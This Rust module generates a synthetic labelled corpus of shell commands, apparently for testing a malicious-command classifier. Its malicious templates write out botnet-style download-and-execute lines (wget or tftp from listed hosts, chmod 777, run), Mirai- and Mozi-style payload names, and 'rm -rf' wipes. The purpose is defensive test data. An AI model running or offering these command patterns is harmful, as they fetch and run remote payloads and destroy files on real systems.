//! Template-driven synthetic corpus.
//!
//! Real malware command corpora are not redistributable, so the acceptance
//! experiments run on commands generated here. Malicious templates are built
//! around download-and-execute tooling (`wget`, `chmod 777`, `tftp`, `busybox`,
//! `rm -rf`, `GET /cdn-cgi`); benign ones around everyday administration (`ls`,
//! `git`, `apt`, `make`, `ssh`, `GET /favicon`). Directory, host and file
//! fillers are drawn from pools shared by both classes, and a configurable
//! fraction of commands get a shared command appended.

use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::corpus::{Command, Label, SourceKind};

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SurrogateConfig {
    pub n_malicious: usize,
    pub n_benign: usize,
    /// Probability that a command gets a shared-token suffix.
    pub noise: f64,
    pub seed: u64,
}

impl Default for SurrogateConfig {
    fn default() -> Self {
        SurrogateConfig {
            n_malicious: 2000,
            n_benign: 2000,
            noise: 0.2,
            seed: 0x5eed,
        }
    }
}

const DIRS: &[&str] = &["/tmp", "/var/run", "/var/tmp", "/dev/shm", "/mnt", "/usr/bin", "/etc", "/root"];
const HOSTS: &[&str] = &[
    "192.168.1.10",
    "10.0.0.5",
    "45.95.168.21",
    "185.172.110.6",
    "172.16.4.2",
    "update.example.net",
];
const SHARED_FILES: &[&str] = &["run.sh", "update", "data.bin", "config", "a.out", "service"];
const MAL_FILES: &[&str] = &["bins.sh", "x86", "mips", "arm7", "mpsl", "sora.sh", "Mozi.m"];
const APPLETS: &[&str] = &["wget", "tftp", "ECCHI", "MIRAI", "ps", "cat /proc/cpuinfo"];
const GIT_VERBS: &[&str] = &["pull", "status", "log --oneline", "checkout main", "diff", "push origin main"];
const PACKAGES: &[&str] = &["vim", "htop", "build-essential", "curl", "python3-pip", "nginx"];
const TARGETS: &[&str] = &["all", "install", "clean", "test", "release"];
const USERS: &[&str] = &["pi", "admin", "ubuntu", "deploy"];
const SHARED_SUFFIXES: &[&str] = &[
    "cd /tmp",
    "echo ok",
    "cat /proc/cpuinfo",
    "sleep 1",
    "uname -a",
    "ps",
    "cd /",
    "sh",
];

fn pick<'a, R: Rng>(rng: &mut R, pool: &[&'a str]) -> &'a str {
    pool.choose(rng).expect("non-empty pool")
}

fn file<R: Rng>(rng: &mut R, own: &[&'static str]) -> &'static str {
    if rng.random_bool(0.5) {
        pick(rng, SHARED_FILES)
    } else {
        pick(rng, own)
    }
}

fn malicious<R: Rng>(rng: &mut R) -> String {
    let dir = pick(rng, DIRS);
    let host = pick(rng, HOSTS);
    let f = file(rng, MAL_FILES);
    match rng.random_range(0..8) {
        0 => format!("cd {dir}; wget http://{host}/{f}; chmod 777 {f}; ./{f}"),
        1 => format!("wget http://{host}/{f} -O {dir}/{f}"),
        2 => format!("chmod 777 {dir}/{f}"),
        3 => format!("tftp -g -r {f} {host}"),
        4 => format!("/bin/busybox {}", pick(rng, APPLETS)),
        5 => format!("rm -rf {dir}/{f}"),
        6 => format!("rm -rf {dir}/*"),
        _ => format!(
            "GET /cdn-cgi/l/chk_captcha?id={} HTTP/1.1",
            rng.random_range(0..40)
        ),
    }
}

fn benign<R: Rng>(rng: &mut R) -> String {
    let dir = pick(rng, DIRS);
    let host = pick(rng, HOSTS);
    match rng.random_range(0..8) {
        0 => format!("ls -lart {dir}"),
        1 => format!("ls --color {dir}/{}", file(rng, &["notes.txt", "Makefile", "README.md"])),
        2 => format!("git -C {dir} {}", pick(rng, GIT_VERBS)),
        3 => format!("sudo apt install {}", pick(rng, PACKAGES)),
        4 => format!("make -C {dir} {}", pick(rng, TARGETS)),
        5 => format!("ssh {}@{host}", pick(rng, USERS)),
        6 => format!("cp --backup {} {dir}/", file(rng, &["notes.txt", "backup.tar.gz"])),
        _ => "GET /favicon.ico HTTP/1.1".to_string(),
    }
}

/// Generates `n_malicious` malicious then `n_benign` benign commands.
pub fn generate(cfg: &SurrogateConfig) -> Vec<Command> {
    let mut rng = ChaCha8Rng::seed_from_u64(cfg.seed);
    let mut out = Vec::with_capacity(cfg.n_malicious + cfg.n_benign);
    for (n, label) in [(cfg.n_malicious, Label::Malicious), (cfg.n_benign, Label::Benign)] {
        for _ in 0..n {
            let mut text = match label {
                Label::Malicious => malicious(&mut rng),
                Label::Benign => benign(&mut rng),
            };
            if rng.random_bool(cfg.noise) {
                text.push_str("; ");
                text.push_str(pick(&mut rng, SHARED_SUFFIXES));
            }
            let source = format!("surrogate-{label}");
            out.push(Command::new(text, label, source, SourceKind::TextList));
        }
    }
    out
}
